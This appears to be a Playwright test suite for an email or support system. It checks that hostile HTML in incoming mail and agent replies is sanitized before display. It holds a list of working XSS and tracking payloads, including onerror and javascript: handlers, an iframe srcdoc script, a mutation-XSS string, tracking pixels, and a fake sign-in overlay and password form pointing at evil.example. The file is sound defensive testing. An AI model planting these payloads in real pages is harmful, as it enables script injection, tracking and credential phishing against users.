import { TOPICS } from '@sluice/contracts';
import { TestSystem } from '@sluice/dev-env';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { corpus } from '../conformance/corpora.ts';
import { openChromium } from './chromium.ts';
import { deedsOf, HARMLESS } from './hostile-page.ts';

let s: TestSystem;
let browser: Browser;
let context: BrowserContext;
let page: Page;
beforeAll(async () => {
  browser = await openChromium();
  context = await browser.newContext();
  page = await context.newPage();
  s = await TestSystem.start();
});
afterAll(async () => {
  await browser?.close();
  await s?.stop();
});

interface Payload {
  readonly title: string;
  readonly payload: string;
}
const payloads = (): readonly Payload[] => (corpus('html-sanitize')?.json('payloads.json') as Payload[] | undefined) ?? [];
/** Of our own, each known to do harm in a Chromium of today: the browser really looks. */
const OWN: readonly Payload[] = [
  { title: 'a handler', payload: '<img src=x onerror=alert(1)>' },
  { title: 'a link to a program', payload: '<a href="javascript:alert(1)" onclick="alert(2)">x</a>' },
  { title: 'a tracking pixel', payload: '<img src="https://tracker.example/p.gif?mail=1">' },
  { title: 'a style sheet', payload: '<style>@import "https://tracker.example/s.css";</style>' },
  { title: 'a background', payload: '<table background="https://tracker.example/b.gif"><td style="background-image:url(https://tracker.example/c.gif)">x</td></table>' },
  { title: 'a veil over the page', payload: '<div style="position:fixed;inset:0;z-index:9999;background:#fff"><a href="https://evil.example">Sign in again</a></div>' },
  { title: 'a form', payload: '<form action="https://evil.example"><input name=password autofocus onfocus="alert(1)"></form>' },
  { title: 'SVG', payload: '<svg onload=alert(1)><image href="https://tracker.example/i.svg"></image></svg>' },
  { title: 'a frame', payload: '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>' },
  { title: 'another page', payload: '<meta http-equiv="refresh" content="0;url=https://evil.example">' },
  { title: 'a mutation', payload: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">' },
  {
    title: 'a source set',
    payload: '<picture><source srcset="https://tracker.example/a.webp"><img srcset="https://tracker.example/b.gif 2x"></picture><video poster="https://tracker.example/v.png"></video>',
  },
];

test('hostile HTML that comes as a mail is shown, and nothing of it executes, nothing is fetched', async () => {
  const all = [...OWN, ...payloads()];
  for (const [n, { payload }] of all.entries())
    await s.sendMail({ from: `attacker-${n}@evil.example`, subject: `hostile ${n}`, messageId: `<hostile-${n}@evil.example>`, text: 'see the HTML', html: payload || ' ' });
  await s.settle();
  const contacts = (await s.events(TOPICS.contactsReceived)).flatMap(({ data }) => {
    const { contactId, subject } = data as { contactId: string; subject?: string };
    const [, n] = /^hostile (\d+)$/.exec(subject ?? '') ?? [];
    return n === undefined ? [] : [{ contactId, n: Number(n) }];
  });
  expect(contacts).toHaveLength(all.length);
  const wrong: unknown[] = [];
  for (const { contactId, n } of contacts) {
    const html = await shownOf(contactId);
    const deeds = await deedsOf(page, html);
    if (JSON.stringify(deeds) !== JSON.stringify(HARMLESS)) wrong.push([all[n]?.title, html, deeds]);
  }
  expect(wrong).toEqual([]);
}, 300_000);

/** The way of a console: from the timeline to the message, to all of it. */
async function shownOf(contactId: string): Promise<string> {
  const { conversationId } = await s.api.ok<{ conversationId: string }>('GET', `/v1/channels/email/contacts/${contactId}`);
  const { items } = await s.api.ok<{ items: { id: string }[] }>('GET', `/v1/conversations/${conversationId}/timeline`);
  const { whole } = await s.api.ok<{ whole: { url: string } }>('GET', `/v1/messages/${items[0]?.id}`);
  return (await s.api.ok<{ html: string | null }>('GET', whole.url)).html ?? '';
}

test('the same HTML as it was written does harm in this browser, so that the test above can fail', async () => {
  const tame: string[] = [];
  for (const { title, payload } of OWN) {
    const { ran, fetched, left, strange } = await deedsOf(await context.newPage(), payload);
    if (ran.length + fetched.length + strange.length === 0 && !left) tame.push(title);
  }
  expect(tame).toEqual([]);
}, 60_000);

test('what an agent writes in HTML is shown by the same rule', async () => {
  await s.sendMail({ from: 'li.wei@example.com', subject: '退款', text: '请退款。', messageId: '<refund@example.com>' });
  await s.settle();
  const event = (await s.events(TOPICS.contactsReceived)).findLast(({ data }) => (data as { subject?: string }).subject === '退款');
  const { conversationId } = await s.api.ok<{ conversationId: string }>('GET', `/v1/channels/email/contacts/${event?.subject}`);
  for (const { payload, title } of OWN) {
    const sent = await s.api.ok<{ id: string }>('POST', `/v1/conversations/${conversationId}/messages`, { html: `<p>您好</p>${payload}` });
    const { html } = await s.api.ok<{ html: string }>('GET', `/v1/messages/${sent.id}/whole`);
    expect([title, await deedsOf(page, html)]).toEqual([title, HARMLESS]);
  }
}, 60_000);
